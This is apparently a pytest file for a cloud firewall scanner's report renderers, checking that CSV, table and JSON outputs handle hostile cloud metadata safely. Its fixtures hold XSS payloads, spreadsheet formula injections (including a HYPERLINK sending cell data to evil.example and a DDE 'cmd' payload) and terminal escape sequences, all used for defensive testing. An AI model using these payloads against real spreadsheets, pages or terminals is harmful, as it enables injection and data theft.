"""One golden report through every registered reporter, with hostile strings from the cloud.

The expected outputs live in ``tests/golden/report.<format>``. After an intended change to a
reporter (or a new one in ``reports.REGISTRY``), regenerate them and review the diff:

    CLOUDWALL_UPDATE_GOLDEN=1 .venv/bin/pytest tests/reports
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from datetime import datetime, timezone
from pathlib import Path

import pytest

import reports
from scanner.model import (
    Action,
    Attribution,
    ChangeKind,
    CollectionError,
    Direction,
    DriftItem,
    Effect,
    Exposure,
    Finding,
    PathStep,
    Peer,
    PeerKind,
    PolicyInfo,
    Rule,
    RuleSet,
    RuleSetKind,
    ScanReport,
    Scope,
    Severity,
    Snapshot,
)
from scanner.netmath import PortSet

GOLDEN = Path(__file__).resolve().parent.parent / "golden"
UPDATE = os.environ.get("CLOUDWALL_UPDATE_GOLDEN") == "1"

T0 = datetime(2026, 5, 4, 3, 2, 1, tzinfo=timezone.utc)

# What an attacker (or a careless admin) can put in names, descriptions and tags.
HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
FORMULAS = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
ANSI = "\x1b[31mRED\x1b[0m\x1b]0;pwned\x07 \x9b2J \u202egnp.exe \x00nul"
HOSTILE = (HTML, FORMULA, *FORMULAS, ANSI)
# Raw control characters no report may contain (C0 but newline, C1, and bidi/zero-width).
CONTROL = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]"
)


def golden_report() -> ScanReport:
    aws = Scope("aws", "111122223333", "eu-west-1", "prod")
    azure = Scope("azure", "5f1c2a3b-0000-4c1d-9e2f-0123456789ab", "", FORMULA)
    gcp = Scope("gcp", "shop-prod", "", "shop")
    ssh = Rule(Direction.INGRESS, Action.ALLOW, "tcp", PortSet.of(22), (Peer.cidr("0.0.0.0/0"),),
               priority=None, native_id="sgr-0a1b2c3d4e5f", name=HTML, description=ANSI)
    rdp = Rule(Direction.INGRESS, Action.ALLOW, "tcp", PortSet.of(3389),
               (Peer(PeerKind.SERVICE_TAG, "Internet", ("0.0.0.0/0", "::/0")),), priority=300,
               native_id="allow-rdp-any", description=FORMULA)
    narrowed = Rule(Direction.INGRESS, Action.ALLOW, "tcp", PortSet.of(22),
                    (Peer.cidr("10.20.0.0/24"),), priority=200, native_id="allow-ssh-bastion")
    rule_sets = (
        RuleSet("aws", aws.account, aws.region, RuleSetKind.AWS_SECURITY_GROUP, "sg-0123",
                HTML, (ssh,), network="vpc-1", description=ANSI, tags={"Name": FORMULA}),
        RuleSet("azure", azure.account, "westeurope", RuleSetKind.AZURE_NSG, "/subs/nsg-web",
                "nsg-web", (rdp, narrowed)),
    )
    errors = (
        CollectionError("gcp", gcp.account, "", f"403 Forbidden {ANSI}",
                        "grant roles/compute.securityReviewer", code="403"),
        CollectionError("aws", aws.account, aws.region, "AccessDenied",
                        "allow ec2:DescribeNetworkAcls", resource_type="network_acls",
                        code="UnauthorizedOperation"),
    )
    snapshot = Snapshot("20260504T030201Z-0badc0de", T0, (aws, azure, gcp), rule_sets,
                        errors=errors, providers=("aws", "azure", "gcp"))
    findings = (
        Finding(Finding.make_id("CW-NET-002", "/subs/nsg-web", "allow-rdp-any"), "CW-NET-002",
                "RDP open to the internet", Severity.CRITICAL, "azure", azure.account,
                "westeurope", "/subs/nsg-web", "nsg-web", rdp, attack=("T1133",),
                compliance={"cis-azure-2.1": ("6.1",)}, remediation="Restrict the source."),
        Finding(Finding.make_id("CW-NET-001", "sg-0123", "sgr-0a1b2c3d4e5f"), "CW-NET-001",
                f"SSH open to the internet {FORMULA}", Severity.HIGH, "aws", aws.account,
                aws.region, "sg-0123", HTML, ssh, attack=("T1133", "T1021.004"),
                compliance={"cis-aws-3.0": ("5.2",), "aws-fsbp": ("EC2.13",)},
                remediation=ANSI),
        Finding(Finding.make_id("CW-NET-010", "sg-0123"), "CW-NET-010",
                FORMULA, Severity.LOW, "aws", aws.account,
                aws.region, "sg-0123", "default", None, suppressed=True,
                suppression={"reason": "accepted", "expires": "2027-01-01"}),
        Finding(Finding.make_id("CW-NET-020", "sg-0123", "x"), "CW-NET-020", FORMULAS[0],
                Severity.MEDIUM, "aws", aws.account, aws.region, "sg-0123", FORMULAS[2], ssh),
    )
    drift = (
        DriftItem("CWD-0001", ChangeKind.RULE_REMOVED, Effect.WIDENED, Severity.HIGH, "azure",
                  azure.account, "westeurope", "/subs/nsg-web", "nsg-web",
                  rule_key="deny-rdp-internet", summary=f"deny rule removed {HTML}",
                  attack=("T1562.007",), tactic="defense-evasion",
                  detection="Firewall Rule Deletion", operations=("Microsoft.Network/x/delete",),
                  attribution=(Attribution(actor=ANSI, time=T0, operation="delete"),)),
        DriftItem("CWD-0002", ChangeKind.RULE_MODIFIED, Effect.WIDENED, Severity.CRITICAL,
                  "azure", azure.account, "westeurope", "/subs/nsg-web", "nsg-web",
                  rule_key="allow-ssh-bastion", before=narrowed, after=rdp,
                  summary=f"source widened to the internet {ANSI}", attack=("T1562.007",),
                  newly_exposed=({"asset_id": "vm-1", "ports": ["22"]},)),
        DriftItem("CWD-0003", ChangeKind.RULE_ADDED, Effect.NARROWED, Severity.INFO, "aws",
                  aws.account, aws.region, "sg-0123", HTML, summary=FORMULAS[1]),
    )
    exposures = (
        Exposure("eni-0abc", "aws", aws.account, aws.region, "internet", "ipv4", "tcp",
                 PortSet.of(22), ("ssh",), "public_ip",
                 (PathStep("aws_security_group", "allow", "sg-0123", "sgr-0a1b2c3d4e5f", ANSI),)),
    )
    # The policies that ran and what each judged: passes are reported too (JUnit, SARIF rules).
    policies = (
        PolicyInfo("CW-NET-001", "Remote administration port open to the internet",
                   Severity.HIGH, rationale="SSH and RDP from anywhere invite brute force.",
                   remediation={"summary": "Restrict the source.", "console": "EC2 > Edit",
                                "cli": "aws ec2 revoke-security-group-ingress ..."},
                   attack=("T1562.007",), compliance={"cis-aws@3.0.0": ("5.2", "5.3")},
                   providers=("aws", "azure", "gcp"), source="packs/network.yaml",
                   judged=(("aws", aws.account, aws.region, "sg-0123", HTML),
                           ("azure", azure.account, "westeurope", "/subs/nsg-web", "nsg-web"))),
        PolicyInfo("CW-NET-002", "Sensitive service open to the internet", Severity.CRITICAL,
                   attack=("T1133",), providers=("aws", "azure", "gcp"),
                   judged=(("aws", aws.account, aws.region, "sg-0123", HTML),
                           ("azure", azure.account, "westeurope", "/subs/nsg-web", "nsg-web"))),
    )
    return ScanReport(snapshot, findings, drift, exposures, baseline_name=f"prod {ANSI}",
                      baseline_snapshot_id="20260501T000000Z-feedf00d", tool_version="0.1.0",
                      generated_at=T0, policies=policies)


def render(name: str) -> bytes:
    out = reports.render(name, golden_report())
    assert isinstance(out, str | bytes)
    return out.encode("utf-8") if isinstance(out, str) else out


def as_text(name: str) -> str:
    return render(name).decode("utf-8")


@pytest.mark.parametrize("name", sorted(reports.REGISTRY))
def test_golden(name):
    path = GOLDEN / f"report.{name}"
    actual = render(name)
    if UPDATE:
        GOLDEN.mkdir(parents=True, exist_ok=True)
        path.write_bytes(actual)
    assert path.exists(), (
        f"no golden file for reporter {name!r}: run CLOUDWALL_UPDATE_GOLDEN=1 "
        ".venv/bin/pytest tests/reports, then review tests/golden/"
    )
    assert actual == path.read_bytes(), (
        f"reporter {name!r} output changed; if intended, regenerate with "
        "CLOUDWALL_UPDATE_GOLDEN=1 .venv/bin/pytest tests/reports and review the diff"
    )


def test_every_golden_file_belongs_to_a_registered_reporter():
    stale = {p.name for p in GOLDEN.glob("report.*")} - {f"report.{n}" for n in reports.REGISTRY}
    assert not stale, f"golden files without a reporter: {sorted(stale)}"


@pytest.mark.parametrize("name", sorted(reports.REGISTRY))
def test_rendering_is_pure_and_deterministic(name):
    assert render(name) == render(name)


@pytest.mark.parametrize("name", sorted(reports.REGISTRY))
def test_no_reporter_emits_raw_control_characters(name):
    """A report shown in a terminal must not drive it; nothing the cloud said gets through raw."""
    text = as_text(name)
    found = {hex(ord(c)) for c in CONTROL.findall(text)}
    assert not found, f"{name} emits control characters {sorted(found)}"


@pytest.mark.parametrize("name", sorted(reports.REGISTRY))
def test_every_reporter_reports_what_matters(name):
    """Whatever the format, the findings, drift and the scopes that were not read are there."""
    text = as_text(name)
    for expected in ("CW-NET-002", "CW-NET-001", "allow-rdp", "403", "network_acls"):
        assert expected in text, (name, expected)
    assert "CWD-0002" in text or "rule_modified" in text, name


def test_csv_neutralises_formulas():
    rows = list(csv.reader(io.StringIO(as_text("csv"))))
    header, body = rows[0], rows[1:]
    assert header[0] == "kind"
    assert all(len(row) == len(header) for row in body)
    cells = [cell for row in body for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert any(c.startswith("'+1+cmd") for c in cells)
    assert any(c.startswith("'@SUM") for c in cells)


def test_csv_has_a_kind_per_record_and_no_overloaded_columns():
    rows = list(csv.DictReader(io.StringIO(as_text("csv"))))
    kinds = [row["kind"] for row in rows]
    assert kinds.count("finding") == 4 and kinds.count("drift") == 3
    assert kinds.count("exposure") == 1 and kinds.count("collection_error") == 2
    assert kinds[-1] == "summary" and rows[-1]["suppressed"] == "1"
    ssh = next(r for r in rows if r["kind"] == "finding" and r["policy_id"] == "CW-NET-001")
    assert (ssh["account"], ssh["region"]) == ("111122223333", "eu-west-1")
    assert (ssh["protocol"], ssh["ports"], ssh["peers"]) == ("tcp", "22", "0.0.0.0/0")
    assert ssh["rule_id"] == "sgr-0a1b2c3d4e5f" and ssh["remediation"].startswith("?[31mRED")
    assert ssh["change"] == ssh["effect"] == ""  # a finding has no drift fields
    quiet = next(r for r in rows if r["kind"] == "finding" and r["policy_id"] == "CW-NET-010")
    assert quiet["suppressed"] == "true" and quiet["suppression"].startswith("accepted")
    modified = next(r for r in rows if r["id"] == "CWD-0002")
    assert (modified["change"], modified["effect"]) == ("rule_modified", "widened")
    assert modified["before"].startswith("allow ingress tcp 22 from 10.20.0.0/24")
    assert modified["after"].startswith("allow ingress tcp 3389 from Internet")
    assert modified["asset_id"] == "vm-1" and modified["policy_id"] == ""
    exposure = next(r for r in rows if r["kind"] == "exposure")
    assert (exposure["asset_id"], exposure["ports"], exposure["source"]) == (
        "eni-0abc", "22", "internet")
    error = next(r for r in rows if r["kind"] == "collection_error" and r["code"] == "403")
    assert error["hint"] == "grant roles/compute.securityReviewer"


def test_table_strips_control_characters_and_sorts_by_severity():
    table = as_text("table")
    assert "\x1b" not in table and "\x9b" not in table and "\u202e" not in table
    assert "?[31mRED?[0m" in table
    lines = table.splitlines()
    findings = [ln.split()[0] for ln in lines if ln.split()[:1] and ln.split()[0] in
                {"CRITICAL", "HIGH", "MEDIUM", "LOW", "INFO"}]
    # Findings, then the suppressed ones the report holds (apart, not counted), then drift;
    # each sorted by severity.
    assert findings == ["CRITICAL", "HIGH", "MEDIUM", "LOW", "CRITICAL", "HIGH", "INFO"]
    suppressed = table.index("Suppressed (1; accepted exceptions, not counted)")
    assert table.index("CW-NET-010") > suppressed > table.index("CW-NET-020")
    assert lines[-1].startswith("3 scopes (")
    assert "INCOMPLETE" in lines[-1]


def test_table_keeps_ids_as_spelled():
    report = golden_report()
    odd = Finding("CWF-1", "CW-NET-001", "t", Severity.HIGH, "aws", "012345678901", "r", "1e5",
                  "1e5", None)
    table = reports.render("table", ScanReport(report.snapshot, (odd,)))
    assert "1e5" in table and "100000" not in table


def test_json_keeps_hostile_strings_exactly_and_has_the_contract():
    text = as_text("json")
    document = json.loads(text)
    assert document["schema_version"] == 2
    assert document["tool"] == {"name": "cloudwall", "version": "0.1.0"}
    assert document["snapshot"]["id"] == "20260504T030201Z-0badc0de"
    assert document["snapshot"]["taken_at"] == "2026-05-04T03:02:01Z"
    statuses = {s["provider"]: (s["status"], s["error"]) for s in document["snapshot"]["scopes"]}
    assert statuses["azure"] == ("ok", None)
    assert statuses["aws"][0] == "partial" and "network_acls" in statuses["aws"][1]
    assert statuses["gcp"][0] == "failed"
    high = next(f for f in document["findings"] if f["policy_id"] == "CW-NET-001")
    for key in ("id", "policy_id", "title", "severity", "provider", "account", "region",
                "resource_id", "resource_name", "rule", "attack", "compliance", "suppressed"):
        assert key in high, key
    for key in ("native_id", "direction", "action", "protocol", "ports", "peers", "priority"):
        assert key in high["rule"], key
    assert high["rule"]["description"] == ANSI  # data, not display: kept exactly
    assert high["resource_name"] == HTML
    assert high["compliance"] == {"aws-fsbp": ["EC2.13"], "cis-aws-3.0": ["5.2"]}
    assert {e["scope"] for e in document["errors"]} == {"gcp/shop-prod",
                                                        "aws/111122223333/eu-west-1 (network_acls)"}
    for error in document["errors"]:
        assert {"provider", "scope", "reason", "hint"} <= set(error)
    assert [d["id"] for d in document["drift"]] == ["CWD-0001", "CWD-0002", "CWD-0003"]
    assert document["summary"]["complete"] is False
